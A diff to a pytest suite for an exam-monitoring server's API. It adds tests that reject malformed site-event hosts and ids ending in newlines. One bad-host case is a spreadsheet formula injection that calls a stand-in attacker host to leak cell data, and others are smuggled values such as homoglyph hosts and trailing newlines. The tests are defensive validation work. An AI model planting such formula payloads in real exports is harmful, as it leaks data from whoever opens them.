@@ -304,30 +304,6 @@ BAD_REQUESTS = [
         ),
         id="unchanged-since-path",
     ),
-    pytest.param(
-        Bad(
-            "POST",
-            f"{API}/site-events",
-            422,
-            "bad_value",
-            json_bytes({"events": [site_event(client_ip="not-an-ip")]}),
-            "application/json",
-            authorization=None,
-        ),
-        id="site-client-ip",
-    ),
-    pytest.param(
-        Bad(
-            "POST",
-            f"{API}/site-events",
-            422,
-            "bad_value",
-            json_bytes({"events": [site_event(host="exam\udfff.org")]}),
-            "application/json",
-            authorization=None,
-        ),
-        id="site-surrogate",
-    ),
     # Wrong content types
     pytest.param(
         beat(json_bytes({"agent_time": NOW}), 415, "not_json", "text/plain"), id="json-as-text-plain"
@@ -573,7 +549,19 @@ BAD_REQUESTS = [
         ),
         id="unchanged-id-dot",
     ),
-    # Site events from outside the appliance
+    # Site events without the service token, from loopback (the proxy's own address) or elsewhere
+    pytest.param(
+        Bad(
+            "POST",
+            f"{API}/site-events",
+            403,
+            "not_a_service",
+            json_bytes({"events": [site_event()]}),
+            "application/json",
+            authorization=None,
+        ),
+        id="site-loopback-no-token",
+    ),
     pytest.param(
         Bad(
             "POST",
@@ -664,6 +652,62 @@ def test_bad_request_is_refused_by_name_and_stores_nothing(client, exam, token, 
     before = store_state(exam.data_dir)
     assert_response_refused(send(client, bad, token), bad.status, bad.code)
     assert store_state(exam.data_dir) == before
+
+
+# Site events with the service token whose content is bad; the host must be a host name or IP address.
+BAD_SITE_EVENTS = [
+    pytest.param(site_event(client_ip="not-an-ip"), "client_ip", id="client-ip"),
+    pytest.param(site_event(host="exam\udfff.org"), "lone surrogate", id="surrogate"),
+    pytest.param(site_event(host='=HYPERLINK("http://evil.example/?"&A1,"open")'), "host", id="host-formula"),
+    pytest.param(site_event(host="exam.example.org/path"), "host", id="host-path"),
+    pytest.param(site_event(host="exam example.org"), "host", id="host-space"),
+    pytest.param(site_event(host="-exam.example.org"), "host", id="host-leading-hyphen"),
+    pytest.param(site_event(host="exam..org"), "host", id="host-empty-label"),
+    pytest.param(site_event(host=""), "host", id="host-empty"),
+    pytest.param(site_event(host="ex\u0430m.example.org"), "host", id="host-not-punycode"),
+    pytest.param(site_event(host="10.0.0.300"), "host", id="host-bad-ipv4"),
+    pytest.param(site_event(host="a" * 64 + ".org"), "host", id="host-long-label"),
+]
+
+
+def post_as_service(client: Any, exam: ExamSetup, body: Any, remote_addr: str = "127.0.0.1") -> Any:
+    """As the proxy and sentinel do: with the hall's service token (from loopback by default)."""
+    service_token = (exam.data_dir / "service.token").read_text().strip()
+    return client.post(
+        f"{API}/site-events",
+        json=body,
+        headers={**PROTOCOL, "Authorization": f"Bearer {service_token}"},
+        environ_base={"REMOTE_ADDR": remote_addr},
+    )
+
+
+@pytest.mark.parametrize(("event", "named"), BAD_SITE_EVENTS)
+def test_bad_site_event_from_the_proxy_is_refused_by_name_and_stores_nothing(client, exam, event, named):
+    before = store_state(exam.data_dir)
+    response = post_as_service(client, exam, {"events": [site_event(id="site-000000"), event]})
+    assert_response_refused(response, 422, "bad_value")
+    assert named in response.get_json()["error"]["message"]
+    assert response.get_json()["error"]["message"].startswith("events[1]:")
+    assert store_state(exam.data_dir) == before
+
+
+@pytest.mark.parametrize(
+    ("host", "stored"),
+    [
+        ("Exam.Example.ORG", "exam.example.org"),
+        ("xn--exm-7cd.example.nl", "xn--exm-7cd.example.nl"),
+        ("_dmarc.cdn-1.example.org", "_dmarc.cdn-1.example.org"),
+        ("10.0.0.7", "10.0.0.7"),
+        ("2001:DB8::1", "2001:db8::1"),
+        ("invalid", "invalid"),  # what the proxy sends for a name it could not read
+    ],
+)
+def test_site_event_hosts_that_are_host_names_or_addresses_are_stored(client, exam, host, stored):
+    response = post_as_service(client, exam, {"events": [site_event(host=host)]})
+    assert response.get_json() == {"stored": 1, "duplicates": 0}
+    store = db.connect(exam.data_dir)
+    assert store.execute("SELECT host FROM site_event").fetchone()[0] == stored
+    store.close()
 
 
 def test_old_agent_is_told_both_protocol_versions(client, token):
@@ -1317,3 +1361,88 @@ def test_good_agents_are_undisturbed_by_a_barrage_of_bad_requests(exam, live_ser
     assert len(blob_files) == len(rows)
     assert list((exam.data_dir / "blobs" / ".tmp").iterdir()) == []
     store.close()
+
+
+# --- Ids that end in a newline ------------------------------------------------------------------------
+# Python's "$" matches before a final newline: an id pattern checked with it would let "cap-00000001\n"
+# through, into the store, the blob paths' neighbours and every export.
+
+NEWLINE = "%0A"  # in a path; "\n" in a JSON body
+TRAILING_NEWLINE_IDS = [
+    pytest.param(capture(422, "bad_id", capture_id=f"cap-00000001{NEWLINE}"), id="capture-path"),
+    pytest.param(
+        Bad("PUT", f"{API}/captures/cap-00000001{NEWLINE}/thumbnail", 422, "bad_id", PNG, "image/png"),
+        id="thumbnail-path",
+    ),
+    pytest.param(
+        Bad(
+            "PUT",
+            f"{API}/unchanged/unc-00000001{NEWLINE}",
+            422,
+            "bad_id",
+            json_bytes({"monitor": 0, "agent_time": NOW, "since_capture_id": "cap-00000001"}),
+            "application/json",
+        ),
+        id="unchanged-path",
+    ),
+    pytest.param(
+        Bad(
+            "PUT",
+            f"{API}/unchanged/unc-00000001",
+            422,
+            "bad_id",
+            json_bytes({"monitor": 0, "agent_time": NOW, "since_capture_id": "cap-00000001\n"}),
+            "application/json",
+        ),
+        id="unchanged-since-capture-id",
+    ),
+    pytest.param(
+        capture(
+            422,
+            "bad_id",
+            capture_id="cap-00000002",
+            meta=meta_header(base="cap-00000001\n", tile=64, tiles="gAAA"),  # tile 0 of the 4x5 grid
+        ),
+        id="capture-tile-update-base",
+    ),
+    pytest.param(
+        Bad(
+            "POST",
+            f"{API}/device-events",
+            422,
+            "bad_id",
+            json_bytes({"events": [device_event(id="ev-0000001\n")]}),
+            "application/json",
+        ),
+        id="device-event-id",
+    ),
+    pytest.param(enrol({**ENROLMENT, "agent_id": "agent-0003\n"}, 422, "bad_id"), id="enrol-agent-id"),
+]
+
+
+@pytest.mark.parametrize("bad", TRAILING_NEWLINE_IDS)
+def test_an_id_ending_in_a_newline_is_refused_and_stores_nothing(client, exam, token, bad):
+    before = store_state(exam.data_dir)
+    assert_response_refused(send(client, bad, token), bad.status, bad.code)
+    assert store_state(exam.data_dir) == before
+
+
+def test_a_site_event_id_ending_in_a_newline_is_refused_and_stores_nothing(client, exam):
+    before = store_state(exam.data_dir)
+    service_token = (exam.data_dir / "service.token").read_text().strip()
+    response = client.post(
+        f"{API}/site-events",
+        json={"events": [site_event(id="site-000001\n")]},
+        headers={**PROTOCOL, "Authorization": f"Bearer {service_token}"},
+        environ_base={"REMOTE_ADDR": "10.1.2.3"},
+    )
+    assert_response_refused(response, 422, "bad_id")
+    assert store_state(exam.data_dir) == before
+
+
+def test_a_thumbnail_for_a_stored_capture_under_its_id_with_a_newline_is_refused(client, exam, token):
+    assert upload(client, token, "cap-00000001").status_code == 201
+    before = store_state(exam.data_dir)
+    bad = Bad("PUT", f"{API}/captures/cap-00000001{NEWLINE}/thumbnail", 422, "bad_id", PNG, "image/png")
+    assert_response_refused(send(client, bad, token), 422, "bad_id")
+    assert store_state(exam.data_dir) == before
